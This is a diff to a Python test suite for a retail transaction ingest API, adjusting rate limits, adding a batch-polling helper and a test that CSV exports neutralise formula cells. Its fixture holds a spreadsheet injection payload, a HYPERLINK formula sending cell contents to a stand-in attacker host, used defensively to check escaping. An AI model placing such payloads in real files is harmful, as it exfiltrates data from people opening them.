@@ -7,6 +7,8 @@ does write all three, so the counting would see a write.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import time
 import uuid
@@ -25,7 +27,7 @@ from tests.support.tokens import auth_header, bad_tokens, sql_url_for, token_for
 
 LIMITS = {
     "SCOUT_MAX_BODY_BYTES": "200000",
-    "SCOUT_RATE_LIMIT_PER_MINUTE": "30",
+    "SCOUT_RATE_LIMIT_PER_MINUTE": "120",
     "SCOUT_RATE_LIMIT_BURST": "25",
 }
 STORES = [
@@ -38,7 +40,16 @@ STORES = [
         "city": "Cebu City",
     },
 ]
-PRODUCTS = [{"sku": "SKU-1", "product_name": "Pancit Canton", "brand": "Lucky Me!", "category": "Noodles"}]
+FORMULA_PRODUCT = {
+    "sku": "SKU-EVIL",
+    "product_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "brand": "+SUM(1+1)",
+    "category": "@cmd",
+}
+PRODUCTS = [
+    {"sku": "SKU-1", "product_name": "Pancit Canton", "brand": "Lucky Me!", "category": "Noodles"},
+    FORMULA_PRODUCT,
+]
 
 
 class Scout:
@@ -75,6 +86,16 @@ class Scout:
             all_headers = self.key(**all_headers)
         body = raw if raw is not None else json.dumps(lines).encode()
         return self.http.post("/api/ingest/transactions", content=body, headers=all_headers)
+
+    def wait_final(self, batch_id: str, headers: dict[str, str], timeout: float = 90.0) -> dict[str, Any]:
+        deadline = time.monotonic() + timeout
+        while time.monotonic() < deadline:
+            resp = self.http.get(f"/api/ingest/batches/{batch_id}", headers=self.key(**headers))
+            assert resp.status_code == 200, resp.text
+            if resp.json()["status"] in ("succeeded", "partially_succeeded", "failed"):
+                return dict(resp.json())
+            time.sleep(1.0)  # under the per-caller rate limit
+        raise AssertionError(f"batch {batch_id} not final after {timeout} s")
 
     def written(self) -> tuple[int, int, int]:
         with self.engine.connect() as conn:
@@ -123,11 +144,10 @@ def _refused(scout: Scout, resp: httpx.Response, before: tuple[int, int, int], s
 
 def test_control_a_permitted_batch_writes_rows_batch_and_blob(scout: Scout) -> None:
     before = scout.written()
-    resp = scout.ingest([line()], scout.vendor_token("VA"))
+    vendor = scout.vendor_token("VA")
+    resp = scout.ingest([line()], vendor)
     assert resp.status_code == 202, resp.text
-    deadline = time.monotonic() + 60
-    while scout.written()[0] == before[0] and time.monotonic() < deadline:
-        time.sleep(0.2)
+    assert scout.wait_final(resp.json()["batch_id"], vendor)["status"] == "succeeded"
     assert scout.written() == (before[0] + 1, before[1] + 1, before[2] + 1)
 
 
@@ -232,7 +252,7 @@ def test_rate_limit_answers_429_with_retry_after(scout: Scout) -> None:
             break
     assert statuses[-1] == 429 and set(statuses[:-1]) == {403}, statuses
     assert resp.json()["error"]["code"] == "rate_limited"
-    assert 1 <= int(resp.headers["Retry-After"]) <= 2
+    assert int(resp.headers["Retry-After"]) == 1  # 120 a minute: one token every 0.5 s
     other = auth_header(token_for(scout.host, "Dashboard.Read", subject="calm-reader"))
     assert scout.http.get("/api/manage/vendors", headers=scout.key(**other)).status_code == 403
 
@@ -253,3 +273,27 @@ def test_cors_and_security_headers_on_answers_and_errors(scout: Scout) -> None:
         assert resp.headers["X-Content-Type-Options"] == "nosniff"
         assert resp.headers["X-Frame-Options"] == "DENY"
         assert "frame-ancestors 'none'" in resp.headers["Content-Security-Policy"]
+
+
+def test_csv_export_neutralises_formula_cells(scout: Scout) -> None:
+    txn = line(sku="SKU-EVIL", customer_id="C-1")
+    vendor = scout.vendor_token("VA")
+    resp = scout.ingest([txn], vendor)
+    assert resp.status_code == 202, resp.text
+    assert scout.wait_final(resp.json()["batch_id"], vendor)["status"] == "succeeded"
+    reader = auth_header(token_for(scout.host, "Dashboard.Read"))
+    utc_day = datetime.fromisoformat(txn["timestamp"]).date()  # the store-local day is this or the next
+    params = {
+        "from": str(utc_day),
+        "to": str(utc_day + timedelta(days=1)),
+        "format": "csv",
+        "part": "top_skus",
+    }
+    export = scout.http.get("/api/products", params=params, headers=reader)
+    assert export.status_code == 200, export.text
+    assert export.headers["Content-Type"].startswith("text/csv")
+    rows = list(csv.DictReader(io.StringIO(export.text)))
+    evil = next(r for r in rows if r["sku"] == "SKU-EVIL")
+    assert evil["product_name"] == "'" + FORMULA_PRODUCT["product_name"]
+    assert evil["brand"] == "'" + FORMULA_PRODUCT["brand"]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values() if cell)
